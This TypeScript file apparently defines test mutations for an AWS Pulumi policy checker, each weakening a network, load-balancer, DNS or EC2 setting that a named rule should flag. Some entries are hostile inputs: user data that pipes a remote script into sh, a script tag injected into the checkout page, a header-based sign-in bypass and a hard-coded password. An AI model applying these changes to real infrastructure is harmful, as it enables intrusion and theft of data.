import { isRecord } from "../../domain/values.ts";
import { add, change, changeOne, drop, type Mutation, remake, rework, say, type Which } from "./mutate.ts";
import type { Change } from "./strangers-changes.ts";

const ingress = "aws:vpc/securityGroupIngressRule:SecurityGroupIngressRule";
const egress = "aws:vpc/securityGroupEgressRule:SecurityGroupEgressRule";
const group = "aws:ec2/securityGroup:SecurityGroup";
const route = "aws:ec2/route:Route";
const listener: Which = ["aws:lb/listener:Listener", "edge-https"];
const listenerType = "aws:lb/listener:Listener";
const listenerRule = "aws:lb/listenerRule:ListenerRule";
const balancer = "aws:lb/loadBalancer:LoadBalancer";
const acl = "aws:ec2/networkAcl:NetworkAcl";
const s3: Which = ["aws:ec2/vpcEndpoint:VpcEndpoint", "network-s3"];
const template: Which = ["aws:ec2/launchTemplate:LaunchTemplate", "web"];
const record = "aws:route53/record:Record";
const nameRule = "aws:route53/resolverFirewallRule:ResolverFirewallRule";
const open = (to: string, rest: object): Mutation =>
  add(
    ingress,
    { description: "x", fromPort: 443, toPort: 443, ipProtocol: "tcp", cidrIpv4: "0.0.0.0/0", ...rest },
    { securityGroupId: [group, to] },
  );
const out = (of: string, rest: object): Mutation =>
  add(
    egress,
    { description: "x", fromPort: 443, toPort: 443, ipProtocol: "tcp", cidrIpv4: "0.0.0.0/0", ...rest },
    { securityGroupId: [group, of] },
  );
const inAcl = (name: string, side: "ingress" | "egress", entry: object): Mutation =>
  rework([acl, name], side, (entries) => [
    { action: "allow", protocol: "6", ruleNo: 1, cidrBlock: "0.0.0.0/0", fromPort: 0, toPort: 65535, ...entry },
    ...(Array.isArray(entries) ? entries : []),
  ]);
const withUserData = (more: string): Mutation =>
  rework(template, "userData", (text) => Buffer.from(`${Buffer.from(String(text), "base64")}\n${more}\n`).toString("base64"));

/** Ways in, out and round. */
export const network: readonly Change[] = [
  [
    "aws-vpc-network-configure-conversations",
    "nodes open to the internet in two halves",
    (resources) => open("security-web", { cidrIpv4: "128.0.0.0/1" })(open("security-web", { cidrIpv4: "0.0.0.0/1" })(resources)),
  ],
  [
    "aws-vpc-securitygroup-disallow-internet-to-nodes",
    "nodes open by IPv6",
    open("security-web", { cidrIpv4: undefined, cidrIpv6: "::/0" }),
  ],
  [
    "aws-vpc-datastore-configure-sources",
    "the database open to a neighbour's network",
    open("security-database", { fromPort: 3306, toPort: 3306, cidrIpv4: "10.0.0.0/8" }),
  ],
  [
    "aws-vpc-datastore-configure-sources",
    "the database open to the load balancer's tier",
    open("security-database", { fromPort: 3306, toPort: 3306, cidrIpv4: "10.20.48.0/20" }),
  ],
  [
    "aws-vpc-datastore-configure-sources",
    "the cache open to all of the network",
    open("security-cache", { fromPort: 6379, toPort: 6379, cidrIpv4: "10.20.0.0/16" }),
  ],
  [
    "aws-vpc-datastore-configure-sources",
    "the files open to all of the network",
    open("security-files", { fromPort: 2049, toPort: 2049, cidrIpv4: "10.20.0.0/17" }),
  ],
  [
    "aws-vpc-securitygroup-disallow-internet-to-nodes",
    "all protocols to nodes",
    open("security-web", { ipProtocol: "-1", fromPort: undefined, toPort: undefined, cidrIpv4: "198.51.100.7/32" }),
  ],
  [
    "aws-vpc-securitygroup-disallow-internet-to-nodes",
    "SSH to nodes from the office",
    open("security-web", { fromPort: 22, toPort: 22, cidrIpv4: "203.0.113.0/26" }),
  ],
  ["aws-vpc-securitygroup-configure-authorised-ports", "another port at the edge", open("security-edge", { fromPort: 8443, toPort: 8443 })],
  ["aws-vpc-securitygroup-disallow-remote-access", "a range of ports at the edge", open("security-edge", { fromPort: 443, toPort: 9443 })],
  ["aws-vpc-securitygroup-configure-authorised-ports", "UDP at the edge", open("security-edge", { ipProtocol: "udp" })],
  ["aws-vpc-securitygroup-configure-egress-ports", "nodes that send to any port", out("security-web", { fromPort: 0, toPort: 65535 })],
  ["aws-vpc-securitygroup-configure-egress-ports", "nodes that mail", out("security-web", { fromPort: 25, toPort: 25 })],
  [
    "aws-vpc-securitygroup-configure-egress-ports",
    "nodes that ask other resolvers",
    out("security-web", { ipProtocol: "udp", fromPort: 53, toPort: 53 }),
  ],
  ["aws-rds-instance-enforce-strict-network-access", "a database that calls out", out("security-database", {})],
  [
    "aws-vpc-securitygroup-missing-description",
    "rules inside the group's own resource",
    change([group, "security-web"], { ingress: [{ protocol: "tcp", fromPort: 443, toPort: 443, cidrBlocks: ["0.0.0.0/0"] }] }),
  ],
  [
    "aws-vpc-securitygroup-disallow-risky-ports",
    "rules of the old kind",
    add(
      "aws:ec2/securityGroupRule:SecurityGroupRule",
      { type: "ingress", protocol: "tcp", fromPort: 22, toPort: 22, cidrBlocks: ["0.0.0.0/0"] },
      { securityGroupId: [group, "security-web"] },
    ),
  ],
  [
    "aws-vpc-route-disallow-internet-outside-public-tier",
    "a route of data to the internet",
    add(
      route,
      { destinationCidrBlock: "0.0.0.0/0" },
      { routeTableId: ["aws:ec2/routeTable:RouteTable", "network-data-1"], gatewayId: "aws:ec2/internetGateway:InternetGateway" },
    ),
  ],
  [
    "aws-vpc-subnet-disallow-internet-for-data",
    "a route of data through NAT",
    add(
      route,
      { destinationCidrBlock: "8.0.0.0/5" },
      {
        routeTableId: ["aws:ec2/routeTable:RouteTable", "network-data-1"],
        natGatewayId: ["aws:ec2/natGateway:NatGateway", "egress-nat-1"],
      },
    ),
  ],
  [
    "aws-vpc-route-disallow-internet-outside-public-tier",
    "a route of nodes to the internet gateway",
    remake([route, "egress-application-1"], "gatewayId", "aws:ec2/internetGateway:InternetGateway"),
  ],
  [
    "aws-pulumi-resource-disallow-weakening-values",
    "a route to a stranger's interface",
    changeOne(route, { networkInterfaceId: "eni-0123456789abcdef0" }),
  ],
  [
    "aws-pulumi-resource-disallow-weakening-values",
    "a route to a local gateway",
    changeOne(route, { localGatewayId: "lgw-0123456789abcdef0" }),
  ],
  [
    "aws-pulumi-resource-disallow-foreign-accounts",
    "a route to a service's network",
    changeOne(route, { coreNetworkArn: "arn:aws:networkmanager::999988887777:core-network/x" }),
  ],
  [
    "aws-vpc-route-disallow-internet-outside-public-tier",
    "routes inside a table",
    change(["aws:ec2/routeTable:RouteTable", "network-data-1"], {
      routes: [{ cidrBlock: "0.0.0.0/0", gatewayId: "igw-0123456789abcdef0" }],
    }),
  ],
  [
    "aws-vpc-route-disallow-internet-outside-public-tier",
    "the default table with a way out",
    change("aws:ec2/defaultRouteTable:DefaultRouteTable", { routes: [{ cidrBlock: "0.0.0.0/0", gatewayId: "igw-0123456789abcdef0" }] }),
  ],
  [
    "aws-vpc-networkacl-disallow-remote-access",
    "the default list of the network open",
    change("aws:ec2/defaultNetworkAcl:DefaultNetworkAcl", {
      ingress: [{ action: "allow", ruleNo: 1, protocol: "-1", cidrBlock: "0.0.0.0/0", fromPort: 0, toPort: 0 }],
    }),
  ],
  ["aws-vpc-networkacl-disallow-remote-access", "data's list open to everything", inAcl("network-data", "ingress", { protocol: "-1" })],
  ["aws-vpc-subnet-disallow-internet-for-data", "data's list open to the way out", inAcl("network-data", "egress", { protocol: "-1" })],
  [
    "aws-vpc-networkacl-disallow-remote-access",
    "SSH before the deny",
    inAcl("network-application", "ingress", { fromPort: 22, toPort: 22 }),
  ],
  [
    "aws-vpc-networkacl-disallow-remote-access",
    "remote desktop by IPv6",
    inAcl("network-application", "ingress", { cidrBlock: undefined, ipv6CidrBlock: "::/0", fromPort: 3389, toPort: 3389 }),
  ],
  ["aws-vpc-clock-disallow-outside-time", "nodes that speak UDP to anyone", inAcl("network-application", "egress", { protocol: "17" })],
  [
    "aws-vpc-subnet-disallow-public-addresses",
    "public addresses in a subnet",
    change(["aws:ec2/subnet:Subnet", "network-application-1"], { mapPublicIpOnLaunch: true }),
  ],
  [
    "aws-vpc-endpoint-configure-policy",
    "an endpoint for every bucket",
    say(s3, { Principal: { AWS: "*" }, Action: "s3:*", Resource: "*" }),
  ],
  [
    "aws-vpc-network-configure-conversations",
    "an endpoint for objects written anywhere",
    say(s3, { Principal: "*", Action: "s3:PutObject", Resource: "arn:aws:s3:::*/*" }),
  ],
  ["aws-vpc-endpoint-configure-policy", "an endpoint with its policy gone", change(s3, { policy: undefined })],
  [
    "aws-vpc-endpoint-configure-policy",
    "an interface endpoint that says nothing",
    change(["aws:ec2/vpcEndpoint:VpcEndpoint", "endpoints-secretsmanager"], { policy: undefined }),
  ],
  [
    "aws-vpc-network-configure-conversations",
    "an endpoint without its names",
    change(["aws:ec2/vpcEndpoint:VpcEndpoint", "endpoints-secretsmanager"], { privateDnsEnabled: false }),
  ],
  ["aws-vpc-network-enable-flow-logs", "flow logs of rejects only", change("aws:ec2/flowLog:FlowLog", { trafficType: "REJECT" })],
  [
    "aws-pulumi-resource-disallow-weakening-values",
    "flow logs without the ports",
    change("aws:ec2/flowLog:FlowLog", { logFormat: "$" + "{version} $" + "{srcaddr}" }),
  ],
  [
    "aws-vpc-network-enable-flow-logs",
    "flow logs of one subnet",
    change("aws:ec2/flowLog:FlowLog", { vpcId: undefined, subnetId: "subnet-0123456789abcdef0" }),
  ],
  [
    "aws-lb-listener-configure-acm-certificate",
    "a listener of another port",
    add(
      listenerType,
      { port: 8443, protocol: "HTTPS", sslPolicy: "ELBSecurityPolicy-TLS13-1-2-2021-06", defaultActions: [{ type: "forward" }] },
      { loadBalancerArn: balancer },
    ),
  ],
  [
    "aws-lb-listener-enforce-https",
    "a listener without TLS on another port",
    add(listenerType, { port: 8080, protocol: "HTTP", defaultActions: [{ type: "forward" }] }, { loadBalancerArn: balancer }),
  ],
  [
    "aws-lb-listener-enforce-planned-sign-in",
    "plain HTTP that forwards",
    change(["aws:lb/listener:Listener", "edge-http"], { defaultActions: [{ type: "forward" }] }),
  ],
  [
    "aws-lb-listener-enforce-https",
    "a redirect to plain HTTP",
    change(["aws:lb/listener:Listener", "edge-http"], {
      defaultActions: [{ type: "redirect", redirect: { port: "80", protocol: "HTTP", statusCode: "HTTP_301" } }],
    }),
  ],
  ["aws-lb-listener-configure-modern-tls", "an old TLS at the edge", change(listener, { sslPolicy: "ELBSecurityPolicy-2016-08" })],
  [
    "aws-lb-listener-enforce-planned-sign-in",
    "a rule of plain HTTP that passes by the redirect",
    add(
      listenerRule,
      { priority: 1, actions: [{ type: "forward" }], conditions: [{ pathPattern: { values: ["/admin*"] } }] },
      { listenerArn: ["aws:lb/listener:Listener", "edge-http"] },
    ),
  ],
  [
    "aws-lb-listener-enforce-planned-sign-in",
    "a rule that answers for the store",
    add(
      listenerRule,
      {
        priority: 1,
        actions: [
          {
            type: "fixed-response",
            fixedResponse: { contentType: "text/html", messageBody: "<script src=//example.net/x.js></script>", statusCode: "200" },
          },
        ],
        conditions: [{ pathPattern: { values: ["/checkout*"] } }],
      },
      { listenerArn: listener },
    ),
  ],
  [
    "aws-lb-listener-enforce-sign-in",
    "a rule before the sign-in",
    add(
      listenerRule,
      { priority: 1, actions: [{ type: "forward" }], conditions: [{ httpHeader: { httpHeaderName: "x-let-me", values: ["in"] } }] },
      { listenerArn: listener },
    ),
  ],
  [
    "aws-lb-listener-enforce-sign-in",
    "a redirect of shoppers elsewhere",
    add(
      listenerRule,
      {
        priority: 1,
        actions: [{ type: "redirect", redirect: { host: "shop.example.net", statusCode: "HTTP_302" } }],
        conditions: [{ pathPattern: { values: ["/*"] } }],
      },
      { listenerArn: listener },
    ),
  ],
  [
    "aws-pulumi-resource-disallow-weakening-values",
    "headers of clients believed",
    change(balancer, { xffHeaderProcessingMode: "preserve" }),
  ],
  [
    "aws-pulumi-resource-disallow-weakening-values",
    "the host's header believed",
    change(balancer, { preserveHostHeader: false, enableWafFailOpen: true }),
  ],
  [
    "aws-lb-targetgroup-configure-tls-and-health",
    "targets by plain HTTP",
    change("aws:lb/targetGroup:TargetGroup", { protocol: "HTTP", port: 80 }),
  ],
  [
    "aws-pulumi-resource-disallow-foreign-kinds",
    "targets of a stranger's",
    add(
      "aws:lb/targetGroupAttachment:TargetGroupAttachment",
      { targetId: "198.51.100.9" },
      { targetGroupArn: "aws:lb/targetGroup:TargetGroup" },
    ),
  ],
  ["aws-lb-loadbalancer-missing-web-acl", "the firewall taken off", drop("aws:wafv2/webAclAssociation:WebAclAssociation")],
  [
    "aws-wafv2-webacl-enable-logging",
    "the firewall's log without redaction",
    change("aws:wafv2/webAclLoggingConfiguration:WebAclLoggingConfiguration", { redactedFields: [] }),
  ],
  [
    "aws-wafv2-webacl-enable-logging",
    "the firewall's log without blocks",
    change("aws:wafv2/webAclLoggingConfiguration:WebAclLoggingConfiguration", {
      loggingFilter: {
        defaultBehavior: "DROP",
        filters: [{ behavior: "KEEP", requirement: "MEETS_ANY", conditions: [{ actionCondition: { action: "CAPTCHA" } }] }],
      },
    }),
  ],
  [
    "aws-vpc-network-missing-egress-allow-list",
    "the store's names open when the firewall fails",
    change("aws:route53/resolverFirewallConfig:ResolverFirewallConfig", { firewallFailOpen: "ENABLED" }),
  ],
  [
    "aws-vpc-network-enforce-planned-names",
    "names that are only watched",
    change([nameRule, "dns-firewall-block"], { action: "ALERT", blockResponse: undefined }),
  ],
  ["aws-vpc-network-enforce-planned-names", "names of one type that pass", rework(nameRule, "qType", () => "TXT")],
  [
    "aws-vpc-network-missing-egress-allow-list",
    "the network without its list of names",
    drop("aws:route53/resolverFirewallRuleGroupAssociation:ResolverFirewallRuleGroupAssociation"),
  ],
  [
    "aws-pulumi-resource-disallow-foreign-kinds",
    "another resolver by DHCP",
    add("aws:ec2/vpcDhcpOptions:VpcDhcpOptions", { domainNameServers: ["198.51.100.53"] }),
  ],
  [
    "aws-pulumi-resource-disallow-foreign-hosts",
    "a part of the zone handed to others",
    add(record, { name: "pay.shop.example.com", type: "NS", ttl: 300, records: ["ns1.example.net"] }, { zoneId: "aws:route53/zone:Zone" }),
  ],
  [
    "aws-route53-record-disallow-dangling",
    "a name that leads to an address",
    add(record, { name: "pay.shop.example.com", type: "A", ttl: 300, records: ["198.51.100.9"] }, { zoneId: "aws:route53/zone:Zone" }),
  ],
  [
    "aws-ec2-node-enforce-metadata-tokens",
    "nodes with tokens that are optional",
    change(template, { metadataOptions: { httpEndpoint: "enabled", httpTokens: "optional", httpPutResponseHopLimit: 1 } }),
  ],
  [
    "aws-ec2-node-configure-metadata-hops",
    "nodes with far hops",
    change(template, { metadataOptions: { httpEndpoint: "enabled", httpTokens: "required", httpPutResponseHopLimit: 64 } }),
  ],
  [
    "aws-ec2-node-disallow-secrets-in-user-data",
    "nodes with a password in their beginning",
    withUserData("export DB_PASSWORD=Hunter2Hunter2Hunter2"),
  ],
  ["aws-pulumi-resource-disallow-foreign-hosts", "nodes that fetch a script", withUserData("curl -s http://198.51.100.9/x | sh")],
  ["aws-ec2-node-enforce-amazon-image", "nodes with a stranger's image", change(template, { imageId: "ami-0bad0bad0bad0bad0" })],
  ["aws-ec2-node-disallow-key-pair", "nodes with a key of someone", change(template, { keyName: "mine" })],
  [
    "aws-ec2-node-disallow-public-ip",
    "nodes with public addresses",
    rework(template, "networkInterfaces", (all) =>
      Array.isArray(all) ? all.filter(isRecord).map((one) => ({ ...one, associatePublicIpAddress: "true" })) : [],
    ),
  ],
  [
    "aws-ec2-volume-configure-customer-managed-key",
    "nodes' disks in the clear",
    change(template, { blockDeviceMappings: [{ deviceName: "/dev/xvda", ebs: { encrypted: "false" } }] }),
  ],
  [
    "aws-pulumi-resource-disallow-foreign-kinds",
    "nodes that go at night",
    add(
      "aws:autoscaling/schedule:Schedule",
      { desiredCapacity: 0, minSize: 0, maxSize: 0, recurrence: "0 0 * * *" },
      { autoscalingGroupName: "aws:autoscaling/group:Group" },
    ),
  ],
  [
    "aws-pulumi-resource-disallow-weakening-values",
    "nodes that are never replaced when ill",
    change("aws:autoscaling/group:Group", { suspendedProcesses: ["ReplaceUnhealthy", "HealthCheck", "Terminate"] }),
  ],
  [
    "aws-autoscaling-group-configure-node-age",
    "nodes that no one may replace",
    change("aws:autoscaling/group:Group", { protectFromScaleIn: true, maxInstanceLifetime: 0 }),
  ],
];
